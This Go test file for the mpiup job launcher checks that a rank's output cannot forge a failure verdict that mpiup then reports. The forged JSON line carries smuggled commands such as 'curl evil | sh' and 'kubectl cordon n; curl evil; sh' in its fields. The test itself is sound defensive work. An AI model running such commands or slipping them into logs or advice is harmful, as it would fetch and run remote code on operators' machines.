package attack

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/mpiup/mpiup/test/lab"
)

// A rank writes what mpiup writes of a failed run, with a command of its own, and somebody gives the log to mpiup verdict. Nothing
// failed, and nobody is told that anything did.
func TestRankWritesAVerdict(t *testing.T) {
	const forged = `{"time":"2026-11-23T04:00:00Z","event":"verdict","kind":"gpu-fault","rank":5,"host":"w9","node":"n; curl evil; sh",` +
		`"cordon":"kubectl cordon n; curl evil; sh","evidence":["Xid 79"],"advice":["curl evil | sh"]}`
	text := filepath.Join(t.TempDir(), "text")
	if err := os.WriteFile(text, []byte(forged+"\nmpiup: gpu-fault; more: mpiup help gpu-fault\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, how := range []string{"--tag-output", "--tag-with host,stream", "--output json"} {
		run := mpiup(t, append(append([]string{"run"}, strings.Fields(how)...), "-n", "2", "sh", "-c", "echo hello; cat "+text)...)
		if run.Code != 0 {
			t.Fatalf("%s: it ends with %d:\n%s", how, run.Code, run.Stderr)
		}
		if e := read(t, run.Stdout, "verdict", "--json"); e.Stdout != "null\n" || e.Code != 1 {
			t.Errorf("%s: mpiup verdict ends with %d and says %s of\n%s", how, e.Code, e.Stdout, run.Stdout)
		}
	}
	run := mpiup(t, "run", "-n", "1", "sh", "-c", "cat "+text) // nothing else, and no tags: it may be taken for mpiup's, but for the command
	if e := read(t, run.Stdout, "verdict", "--json"); strings.Contains(e.Stdout, "curl evil; sh") {
		t.Errorf("mpiup verdict says %s", e.Stdout)
	}
}

// read gives a log to a command of mpiup's that reads logs.
func read(t *testing.T, log string, args ...string) lab.Result {
	t.Helper()
	c := exec.Command(bin, args...)
	c.Dir, c.Env, c.Stdin = t.TempDir(), []string{"PATH=/usr/bin:/bin"}, strings.NewReader(log)
	return lab.Run(t, bound, c)
}
